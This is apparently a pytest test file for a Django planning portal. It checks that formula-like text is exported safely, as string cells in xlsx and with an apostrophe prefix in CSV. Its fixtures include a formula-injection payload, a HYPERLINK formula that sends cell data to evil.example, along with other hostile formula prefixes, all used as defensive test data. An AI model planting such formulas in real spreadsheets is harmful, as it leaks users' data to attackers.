"""Text that looks like a formula leaves every export as text and comes back unchanged.

Text starting with "=", "+", "-", "@", tab or CR is stored in xlsx as a string cell, exactly as
typed (no apostrophe added to the value); in CSV it gets a leading apostrophe, as OWASP
advises. Numbers stay numbers, and the formulas we write on purpose stay formulas.
"""

import csv
import io
import re

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from budgets.models import Disbursement
from indicators.models import Actual, Comparator, Indicator
from plans.models import Plan
from plans.spreadsheets import formulas, xlsx
from tests import factories as f
from tests.spreadsheets import libreoffice_roundtrip, libreoffice_sheets

pytestmark = pytest.mark.django_db

LEAK = '=HYPERLINK("http://evil.example/?d="&B2)'
NOTE = "=1+1"
EVIDENCE = '=HYPERLINK("http://x")'
HOSTILE = [LEAK, "+1+1", "-1+1", "@SUM(1,2)", "\t=1+1", "\r=1+1", "#N/A"]


def download(client, url, **params):
    response = client.get(url, params)
    assert response.status_code == 200, response
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def cells_with(book, text):
    """Return every cell of the workbook whose value is exactly `text`."""
    return [
        cell
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value == text
    ]


def assert_text_cell(book, text):
    found = cells_with(book, text)
    assert found, f"{text!r} is not in the workbook"
    assert all(cell.data_type == "s" for cell in found), [c.data_type for c in found]


@pytest.fixture
def hostile_plan(db):
    """A plan whose every kind of text starts like a formula."""
    province = f.province("Sóc Trăng", code="94", slug="soc-trang")
    plan = f.plan(province, slug="st-9", document_number="9/KH-UBND", title="+tiêu đề")
    section = f.section(plan, code="S", title="@phần")
    leak = f.indicator(plan, code="UD-1", section=section, name=LEAK, unit="%", scope="-tỉnh")
    f.target(leak, year=2015, phrase="trên 60%", comparator=Comparator.GT, value="60")
    f.actual(leak, year=2013, value="45.5", status=Actual.Status.APPROVED)
    growth = f.indicator(
        plan,
        code="UD-2",
        section=section,
        name="Tăng trưởng",
        unit="%",
        aggregation=Indicator.Aggregation.YEARLY_RATE,
        allows_negative=True,
    )
    f.target(growth, year=2015, phrase="trên 5%", comparator=Comparator.GT, value="5")
    f.actual(growth, year=2013, value="-3.5", status=Actual.Status.APPROVED)
    agency = f.agency(province, "@Sở TT&TT", code="st-stttt")
    project = f.project(plan, code="DA1", name="+dự án", content="-nội dung", lead_agency=agency)
    line = f.budget_line(plan, code="DA1", name="=1+2", project=project)
    f.allocation(line, amount="1500", year_from=2012, year_to=2015)
    f.responsibility(plan, agency, code="R1", duties="=2*3")
    return plan


# The helper


@pytest.mark.parametrize("text", HOSTILE[:-1])
def test_text_that_a_spreadsheet_would_run_looks_like_a_formula(text):
    assert formulas.looks_like_formula(text)


@pytest.mark.parametrize("value", ["-3,5", "-1.093.410", "+5", "-12%", "Internet", "", -3, None])
def test_numbers_and_plain_text_do_not_look_like_formulas(value):
    assert not formulas.looks_like_formula(value)


def test_csv_text_prefixes_an_apostrophe_only_to_formula_like_text():
    assert formulas.csv_text(LEAK) == "'" + LEAK
    assert formulas.csv_text("-3,5") == "-3,5"
    assert formulas.csv_text(-3) == -3


def test_a_sheet_writes_formula_like_text_as_text_and_our_formulas_as_formulas():
    workbook = xlsx.new_workbook()
    sheet = xlsx.Sheet(workbook, "A", [10, 10, 10])
    texts = [text for text in HOSTILE if "\r" not in text]  # XML reads a bare CR as LF
    sheet.append([*texts, -3, sheet.cell("=SUM(1,2)", formula=True)])
    book = load_workbook(io.BytesIO(xlsx.save(workbook)))
    row = list(book["A"].iter_rows())[0]
    assert [c.value for c in row[: len(texts)]] == texts
    assert {c.data_type for c in row[: len(texts)]} == {"s"}
    assert (row[-2].value, row[-2].data_type) == (-3, "n")
    assert (row[-1].value, row[-1].data_type) == ("=SUM(1,2)", "f")


# Our workbooks


def test_plan_report_writes_text_as_text_and_keeps_its_subtotal_formulas(client, hostile_plan):
    client.force_login(f.user(f.LEADER, hostile_plan.province))
    content = download(client, reverse("plans:plan-report", args=[hostile_plan.slug]))
    book = load_workbook(io.BytesIO(content))
    for text in [LEAK, "+tiêu đề", "@phần", "-tỉnh", "+dự án", "-nội dung", "=1+2", "=2*3"]:
        assert_text_cell(book, text)
    subtotals = [c for c in book["Đầu tư"]["D"] if str(c.value).startswith("=SUBTOTAL")]
    assert subtotals and {c.data_type for c in subtotals} == {"f"}
    growth = next(row for row in book["Chỉ tiêu"].iter_rows() if row[0].value == "UD-2")
    assert -3.5 in [c.value for c in growth if c.data_type == "n"]


def test_libreoffice_does_not_evaluate_text_in_the_plan_report(client, hostile_plan):
    client.force_login(f.user(f.LEADER, hostile_plan.province))
    content = download(client, reverse("plans:plan-report", args=[hostile_plan.slug]))
    sheets = libreoffice_sheets(content)
    indicators = {row[0]: row for row in sheets["Chỉ tiêu"] if row}
    assert indicators["UD-1"][1] == LEAK
    duties = [row for row in sheets["Phân công"] if row]
    assert duties[1][2] == "=2*3"
    investment = {row[0]: row for row in sheets["Đầu tư"] if row}
    assert investment["Tổng cộng"][3] == "1500"  # our own SUBTOTAL still computes


def test_year_report_writes_text_as_text(client, hostile_plan):
    client.force_login(f.user(f.LEADER, hostile_plan.province))
    url = reverse("plans:year-report", args=[hostile_plan.province.slug, 2013])
    book = load_workbook(io.BytesIO(download(client, url)))
    assert_text_cell(book, LEAK)
    assert_text_cell(book, "-tỉnh")


def test_plan_workbook_writes_text_as_text_and_imports_it_back(client, hostile_plan):
    client.force_login(f.user(f.ADMIN, None))
    content = download(client, reverse("plans:plan-workbook", args=[hostile_plan.slug]))
    book = load_workbook(io.BytesIO(content))
    for text in [LEAK, "+tiêu đề", "@phần", "=1+2", "=2*3", "-nội dung"]:
        assert_text_cell(book, text)
    hostile_plan.delete()
    preview = client.post(
        reverse("plans:new-plan"), {"file": SimpleUploadedFile("p.xlsx", content)}
    )
    assert preview.context["preview"].errors == []
    client.post(reverse("plans:new-plan"), {"payload": preview.context["preview"].payload})
    plan = Plan.objects.get(slug="st-9")
    assert (plan.title, plan.indicators.get(code="UD-1").name) == ("+tiêu đề", LEAK)
    assert plan.responsibilities.get().duties == "=2*3"


def test_progress_template_writes_notes_and_evidence_as_text(client, hostile_plan):
    leak = hostile_plan.indicators.get(code="UD-1")
    f.actual(leak, year=2014, value="50", note=NOTE, evidence=EVIDENCE)
    client.force_login(f.user(f.ADMIN, None))
    url = reverse("plans:progress-template", args=[hostile_plan.slug, 2014])
    book = load_workbook(io.BytesIO(download(client, url)))
    for text in [NOTE, EVIDENCE, LEAK]:
        assert_text_cell(book, text)


# Table export (django-tables2) and admin exports (django-import-export)


def test_dashboard_csv_export_prefixes_formula_like_text_and_keeps_negative_numbers(
    client, hostile_plan
):
    client.force_login(f.user(f.LEADER, hostile_plan.province))
    url = reverse("plans:plan-dashboard", args=[hostile_plan.slug])
    content = download(client, url, _export="csv").decode("utf-8")
    rows = {row[0]: row for row in csv.reader(io.StringIO(content))}
    assert rows["UD-1"][1] == "'" + LEAK
    assert rows["UD-1"][4] == "'-tỉnh"
    # In the notation the portal shows (Excel in Vietnamese reads it at its scale), no apostrophe.
    assert rows["UD-2"][-3:] == ["-3,5", "Không đạt", "-70%"]


def test_dashboard_xlsx_export_writes_text_as_text(client, hostile_plan):
    client.force_login(f.user(f.LEADER, hostile_plan.province))
    url = reverse("plans:plan-dashboard", args=[hostile_plan.slug])
    book = load_workbook(io.BytesIO(download(client, url, _export="xlsx")))
    assert_text_cell(book, LEAK)
    growth = next(row for row in book.active.iter_rows() if row[0].value == "UD-2")
    assert -3.5 in [c.value for c in growth]


@pytest.mark.parametrize("export_format", ["tsv", "json", "ods", "yaml"])
def test_dashboard_exports_only_xlsx_and_csv(client, hostile_plan, export_format):
    client.force_login(f.user(f.LEADER, hostile_plan.province))
    url = reverse("plans:plan-dashboard", args=[hostile_plan.slug])
    response = client.get(url, {"_export": export_format})
    assert response["Content-Type"].startswith("text/html")


def admin_export(client, model, export_format: str) -> bytes:
    app, name = model._meta.app_label, model._meta.model_name
    url = reverse(f"admin:{app}_{name}_export")
    page = client.get(url).content.decode()
    fields = set(re.findall(r'name="(\w+resource_\w+)"', page))
    response = client.post(
        url, {"format": export_format, "resource": "0", **dict.fromkeys(fields, "on")}
    )
    assert response.status_code == 200
    if response.streaming:  # CSV streams, xlsx comes from a temporary file
        return b"".join(response.streaming_content)
    return response.content


def test_admin_xlsx_export_writes_text_as_text_and_numbers_as_numbers(admin_client, hostile_plan):
    book = load_workbook(io.BytesIO(admin_export(admin_client, Indicator, "0")))
    assert_text_cell(book, LEAK)
    actuals = load_workbook(io.BytesIO(admin_export(admin_client, Actual, "0"))).active
    header = [c.value for c in actuals[1]]
    values = [row[header.index("value")].value for row in actuals.iter_rows(min_row=2)]
    assert -3.5 in values


def test_admin_csv_export_prefixes_formula_like_text_and_keeps_negative_numbers(
    admin_client, hostile_plan
):
    indicators = admin_export(admin_client, Indicator, "1").decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(indicators)))
    names = {row["code"]: row["name"] for row in rows}
    assert names["UD-1"] == "'" + LEAK
    actuals = admin_export(admin_client, Actual, "1").decode("utf-8-sig")
    assert {row["value"] for row in csv.DictReader(io.StringIO(actuals))} >= {"-3,5000"}


# Notes that start with "=": out as text, back unchanged


def template(client, plan, year=2013) -> bytes:
    return download(client, reverse("plans:progress-template", args=[plan.slug, year]))


def upload(client, plan, content: bytes, year=2013):
    url = reverse("plans:progress-upload", args=[plan.slug, year])
    return client.post(url, {"file": SimpleUploadedFile("a.xlsx", content)})


def snapshot():
    return (
        list(Actual.objects.values_list("indicator_id", "year", "value", "note", "evidence")),
        list(Disbursement.objects.values_list("line_id", "amount")),
        Actual.history.count(),
    )


@pytest.fixture
def noted(world):
    f.actual(world.count, year=2013, value="12", note=NOTE, evidence=EVIDENCE)
    return world


@pytest.mark.parametrize("through", ["openpyxl", "libreoffice"])
def test_an_unchanged_template_with_formula_like_notes_changes_nothing(as_user, noted, through):
    client = as_user(noted.users["staff_a"])
    content = template(client, noted.plan_a)
    if through == "libreoffice":
        content = libreoffice_roundtrip(content)
    book = load_workbook(io.BytesIO(content))
    assert_text_cell(book, NOTE)
    assert_text_cell(book, EVIDENCE)
    before = snapshot()
    response = upload(client, noted.plan_a, content)
    preview = response.context["preview"]
    assert preview.errors == []
    assert preview.changed_count == 0
    url = reverse("plans:progress-upload", args=[noted.plan_a.slug, 2013])
    client.post(url, {"payload": preview.payload})
    assert snapshot() == before


def test_libreoffice_shows_formula_like_notes_as_typed(as_user, noted):
    client = as_user(noted.users["staff_a"])
    sheets = libreoffice_sheets(template(client, noted.plan_a))
    row = next(row for row in sheets["Chỉ tiêu"] if row and row[0] == "VT-2")
    assert row[8:10] == [NOTE, EVIDENCE]


def test_the_preview_shows_a_changed_note_and_evidence(as_user, noted):
    client = as_user(noted.users["staff_a"])
    book = load_workbook(io.BytesIO(template(client, noted.plan_a)))
    sheet = book["Chỉ tiêu"]
    header = [c.value for c in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == "VT-2")
    row[header.index("Ghi chú")].value = "Theo VNPT"
    row[header.index("Minh chứng")].value = "Công văn 12/VNPT"
    buffer = io.BytesIO()
    book.save(buffer)
    response = upload(client, noted.plan_a, buffer.getvalue())
    preview = response.context["preview"]
    assert preview.changed_count == 1
    changed = next(r for r in preview.rows if r.changed)
    assert [(c.name, c.old, c.new) for c in changed.changes] == [
        ("Ghi chú", NOTE, "Theo VNPT"),
        ("Minh chứng", EVIDENCE, "Công văn 12/VNPT"),
    ]
    page = response.content.decode()
    for text in ["Theo VNPT", "Công văn 12/VNPT", "=1+1", "Ghi chú", "Minh chứng"]:
        assert text in page
